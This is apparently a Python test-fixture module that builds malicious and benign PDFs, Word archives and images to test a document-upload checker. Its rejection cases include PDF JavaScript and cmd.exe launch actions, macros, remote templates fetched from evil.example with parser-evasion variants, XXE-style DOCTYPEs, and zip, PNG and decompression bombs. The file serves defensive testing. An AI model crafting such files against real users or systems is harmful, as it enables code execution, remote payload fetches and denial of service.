"""Files that must not come in, and files that must: made here, byte by byte or by the libraries that read them."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from PIL import Image

from thuocdo.documents.checks.unfit import Reason

DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="w"/>'
TYPES = b'<?xml version="1.0"?><Types><Override ContentType="%s"/></Types>'
RELATION = b'<Relationships><Relationship Id="r" Type="http://x/%s" Target="http://evil.example/" %s/></Relationships>'
EXTERNAL = b'TargetMode="External"'


RELS = "word/_rels/settings.xml.rels"


def template(target: bytes = b"http://evil.example/t.dotm", mode: bytes = EXTERNAL, first: bytes = b"r") -> bytes:
    """A Word file whose template lies elsewhere; `first`: the attribute before the ones that say so."""
    kind = b'Type="http://x/attachedTemplate"'
    relation = b'<Relationships><Relationship Id="%s" %s Target="%s" %s/></Relationships>' % (first, kind, target, mode)
    return archive(**{RELS: relation})


def pdf_with(change=lambda document: None, **saving) -> bytes:
    document, out = pikepdf.new(), BytesIO()
    document.add_blank_page()
    change(document)
    document.save(out, **saving)
    return out.getvalue()


def _open_action(**entries):
    def change(document):
        document.Root.OpenAction = pikepdf.Dictionary(**entries)

    return change


def _hidden_in_a_stream(document) -> None:
    """A script that nothing refers to by name, three levels down in a packed object."""
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    document.Root.Extra = document.make_indirect(pikepdf.Array([pikepdf.Dictionary(A=pikepdf.Array([action]))]))


def _attachment(document) -> None:
    document.attachments["a.exe"] = b"MZ"


def _xfa(document) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=pikepdf.Array(["x", "y"]))


def _additional_actions(document) -> None:
    document.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Named))


def _deep(document) -> None:
    nest = pikepdf.Array([])
    for _ in range(60):
        nest = pikepdf.Array([nest])
    document.Root.Extra = nest


def packed_twice(unpacked: int) -> bytes:
    """A PDF of some hundred bytes with an object stream that unpacks to an array of this many bytes."""
    inner = zlib.compress(zlib.compress(b"10 0 [" + b"0 " * (unpacked // 2) + b"]", 9), 9)
    head = b"<</Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]/Length %d>>" % len(inner)
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R/X 10 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        head + b"stream\n" + inner + b"\nendstream",
    ]
    out, rows = _written(bodies), [(0, 0)] * 11
    rows[1:5] = [(1, place) for place in out[1]]
    rows[5], rows[10] = (1, len(out[0])), (2, 4)
    listed = b"".join(struct.pack(">BIH", *row, 0) for row in rows)
    told = b"5 0 obj\n<</Type/XRef/Size 11/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(listed)
    return out[0] + told + listed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(out[0])


def much_text(unpacked: int) -> bytes:
    """A PDF of some hundred bytes with one page whose text unpacks to this many bytes."""
    text = b"BT /F 9 Tf " + b"(aaaaaaaaaaaaaaaaaaaaaaaa) Tj " * (unpacked // 30) + b"ET"
    inner = zlib.compress(zlib.compress(text, 9), 9)
    head = b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>" % len(inner)
    font = b"/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R%s>>" % font,
        head + b"stream\n" + inner + b"\nendstream",
    ]
    out, places = _written(bodies)
    listed = b"0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    told = b"xref\n0 5\n%strailer<</Size 5/Root 1 0 R>>\n" % listed
    return out + told + b"startxref\n%d\n%%%%EOF\n" % len(out)


def _written(bodies: list[bytes]) -> tuple[bytes, list[int]]:
    """The objects of a PDF from its head on, and where each begins."""
    out, places = bytearray(b"%PDF-1.5\n"), []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return bytes(out), places


def archive(**parts: bytes) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as file:
        for name, content in {"[Content_Types].xml": TYPES % b"x", "word/document.xml": DOCUMENT, **parts}.items():
            file.writestr(name, content)
    return out.getvalue()


def png(width: int = 20, height: int = 20) -> bytes:
    out = BytesIO()
    Image.new("RGB", (width, height), "white").save(out, "PNG")
    return out.getvalue()


def jpeg() -> bytes:
    out = BytesIO()
    Image.new("RGB", (20, 20), "white").save(out, "JPEG")
    return out.getvalue()


def huge_png() -> bytes:
    """A head that promises 100,000 × 100,000 points."""
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(name, content) for name, content in parts)


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def encrypted() -> bytes:
    return pdf_with(encryption=pikepdf.Encryption(owner="o", user="u"))


NAMES = pikepdf.Name
BAD = {
    "script on opening": (pdf_with(_open_action(S=NAMES.JavaScript, JS="app.alert(1)")), Reason.SCRIPT),
    "script packed away": (
        pdf_with(_hidden_in_a_stream, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        Reason.SCRIPT,
    ),
    "program on opening": (pdf_with(_open_action(S=NAMES.Launch, F="cmd.exe")), Reason.LAUNCHES),
    "form that is sent away": (pdf_with(_open_action(S=NAMES.SubmitForm, F="http://x")), Reason.LAUNCHES),
    "additional actions": (pdf_with(_additional_actions), Reason.LAUNCHES),
    "XFA form": (pdf_with(_xfa), Reason.FORM),
    "file inside": (pdf_with(_attachment), Reason.CARRIES_FILES),
    "password": (encrypted(), Reason.ENCRYPTED),
    "owner's password alone": (pdf_with(encryption=pikepdf.Encryption(owner="o", user="")), Reason.ENCRYPTED),
    "nested without end": (pdf_with(_deep), Reason.TOO_COMPLEX),
    "cut off": (pdf_with()[:-40], Reason.CUT_OFF),
    "nothing but a head": (b"%PDF-1.7\n%%EOF", Reason.DAMAGED),
    "garbage between": (b"%PDF-1.7\n" + b"\xff\x00garbage" * 500 + b"\n%%EOF", Reason.DAMAGED),
    "macros": (archive(**{"word/vbaProject.bin": b"x"}), Reason.MACROS),
    "macros by type": (archive(**{"[Content_Types].xml": TYPES % b"ms-word.macroEnabled.main+xml"}), Reason.MACROS),
    "template from elsewhere": (
        archive(**{"word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", EXTERNAL)}),
        Reason.FETCHES,
    ),
    "template at an address with the word hyperlink": (template(b"http://evil.example/hyperlink"), Reason.FETCHES),
    "template with a letter as a number": (template(mode=b'TargetMode="Exter&#110;al"'), Reason.FETCHES),
    "template behind a bracket": (template(first=b"r>"), Reason.FETCHES),
    "template that names a link beside": (
        template(mode=b'xmlns:x="x" x:Type="http://x/hyperlink" ' + EXTERNAL),
        Reason.FETCHES,
    ),
    "relations with a document type": (archive(**{RELS: b"<!DOCTYPE x><Relationships/>"}), Reason.DOCTYPE),
    "relations that are no XML": (archive(**{RELS: b"<Relationship " * 10_000}), Reason.DAMAGED),
    "relations without end": (
        archive(**{RELS: b"<Relationships>" + b"<Relationship/>" * 20_000 + b"</Relationships>"}),
        Reason.TOO_COMPLEX,
    ),
    "macros under another name": (
        archive(**{RELS: b'<Relationships><Relationship Type="http://x/vbaProject" Target="a"/></Relationships>'}),
        Reason.MACROS,
    ),
    "document type": (archive(**{"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), Reason.DOCTYPE),
    "document type in two bytes": (
        archive(**{"word/document.xml": '<?xml version="1.0"?><!DOCTYPE x><x/>'.encode("utf-16")}),
        Reason.DOCTYPE,
    ),
    "bomb": (archive(**{"word/media/a.bin": bytes(60 * 1024**2)}), Reason.UNPACKS_HUGE),
    "many entries": (archive(**{f"word/{n}.xml": b"" for n in range(6000)}), Reason.UNPACKS_HUGE),
    "picture bomb": (huge_png(), Reason.PIXELS),
    "half a picture": (png(200, 200)[:60], Reason.DAMAGED),
}
GOOD = {
    "plain PDF": pdf_with(),
    "packed PDF": pdf_with(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "PDF with a place to go": pdf_with(_open_action(S=NAMES.GoTo, D="x")),
    "Word": archive(),
    "Word with a link": archive(**{"word/_rels/document.xml.rels": RELATION % (b"hyperlink", EXTERNAL)}),
    "PNG": png(),
    "JPEG": jpeg(),
}
